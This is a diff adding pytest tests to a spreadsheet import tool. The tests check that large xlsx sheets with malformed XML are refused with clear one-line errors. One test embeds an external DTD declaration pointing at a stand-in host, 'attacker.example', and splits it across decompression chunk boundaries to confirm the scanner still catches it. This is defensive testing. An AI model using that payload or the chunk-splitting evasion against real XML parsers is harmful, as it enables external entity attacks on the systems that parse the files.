@@ -232,3 +232,79 @@ def refused_in_little_memory_plan(path: Path) -> None:
         _, peak = tracemalloc.get_traced_memory()
         tracemalloc.stop()
         assert peak < 64 * 1024 * 1024
+
+
+# --- a large sheet's rows: counted, not parsed twice (SheetCheck); expat whole when they look wrong ----------
+
+def stored_xlsx(path: Path, sheet: str) -> Path:
+    """``build_xlsx`` with the sheet stored uncompressed: its inflated chunks are the zip's read size exactly."""
+    import zipfile
+
+    build_xlsx(path, [("名册", sheet)], compresslevel=1)
+    with zipfile.ZipFile(path) as source:
+        parts = [(info.filename, source.read(info)) for info in source.infolist()]
+    with zipfile.ZipFile(path, "w") as archive:
+        for name, data in parts:
+            archive.writestr(name, data, zipfile.ZIP_STORED if name.endswith("sheet1.xml") else zipfile.ZIP_DEFLATED)
+    return path
+
+
+def rows_sheet(extra_rows: str, at: int | None = None) -> str:
+    """The roster with ``extra_rows`` among its rows, a padded page header making it a large sheet (past
+    ``WELL_FORMED_CHECK_BYTES``); with ``at``, a filler row first puts ``extra_rows`` at byte ``at``."""
+    xml = big_sheet("")
+    cut = xml.index("</sheetData>")
+    if at is not None:
+        filler = '<row r="900"><c r="Z900" t="inlineStr"><is><t>{}</t></is></c></row>'
+        extra_rows = filler.format("A" * (at - len(xml[:cut].encode()) - len(filler.format("")))) + extra_rows
+    return xml[:cut] + extra_rows + xml[cut:]
+
+
+def test_a_doctype_cut_in_two_by_the_chunks_is_refused(tmp_path: Path) -> None:
+    """Among a large sheet's rows, which expat does not read: "<!DOC" ends one inflated chunk, "TYPE" begins
+    the next, and no other "!" follows that would make the second chunk looked at."""
+    boundary = package_module.CHUNK // 4  # a stored part comes in reads of this size
+    doctype = '<!DOCTYPE w SYSTEM "http://attacker.example/w.dtd">'
+    sheet = rows_sheet(doctype, at=boundary - len("<!DOC"))
+    assert sheet.encode()[boundary - 5:boundary] == b"<!DOC" and sheet.count("!") == 1
+    refused_in_little_memory(stored_xlsx(tmp_path / "v.xlsx", sheet), "DTD")
+
+
+def test_an_unescaped_less_than_in_a_large_sheets_rows_is_one_clear_reason(tmp_path: Path) -> None:
+    """calamine reads "<2年" as a tag and loses the text silently: the rows' count of < and > differs, so
+    expat checks the sheet whole and names the fault."""
+    row = '<row r="3"><c r="A3" t="inlineStr"><is><t>张<2年</t></is></c></row>'
+    path = build_xlsx(tmp_path / "v.xlsx", [("名册", rows_sheet(row))], compresslevel=1)
+    with pytest.raises(UnreadableWorkbook, match=r"已损坏.*sheet1\.xml: XML") as caught:
+        refused_in_little_memory_plan(path)
+    assert "\n" not in str(caught.value)
+
+
+def test_a_large_sheet_calamine_cannot_read_gets_expats_reason(tmp_path: Path) -> None:
+    """A cell left open: as many < as > (no cause to check the rows whole), calamine fails; expat's account
+    (which tag, where) is given, in one line."""
+    row = '<row r="3"><c r="A3" t="inlineStr"><is><t>张</t></is></row>'
+    path = build_xlsx(tmp_path / "v.xlsx", [("名册", rows_sheet(row))], compresslevel=1)
+    with pytest.raises(UnreadableWorkbook, match=r"已损坏.*sheet1\.xml: XML mismatched tag") as caught:
+        plan_import(path)
+    assert "\n" not in str(caught.value)
+
+
+@pytest.mark.parametrize(("rows", "suspicious"), [
+    ("", False),
+    ('<row r="3"><c r="A3" t="inlineStr"><is><t>a &gt; b, 1 &lt; 2</t></is></c></row>', False),
+    ('<row r="3"><c r="A3" t="inlineStr"><is><t>a > b</t></is></c></row>', True),  # well-formed: checked whole
+    ("<!-- a comment, as many < as > -->", False),
+    ("<![CDATA[1 < 2]]>", True),
+])
+def test_a_large_sheets_rows_are_checked_whole_only_when_their_count_is_off(tmp_path: Path, rows: str,
+                                                                            suspicious: bool) -> None:
+    import zipfile
+
+    path = build_xlsx(tmp_path / "v.xlsx", [("名册", rows_sheet(rows))], compresslevel=1)
+    with zipfile.ZipFile(path) as archive:
+        _archive, package = package_module.open_package(path)
+        _archive.close()
+        facts = package_module.scan_sheet(path, archive, package.sheets[0], max_rows=100, slack=30)
+    assert facts.unchecked is suspicious
+    assert plan_import(path).rows  # well-formed all: imported either way
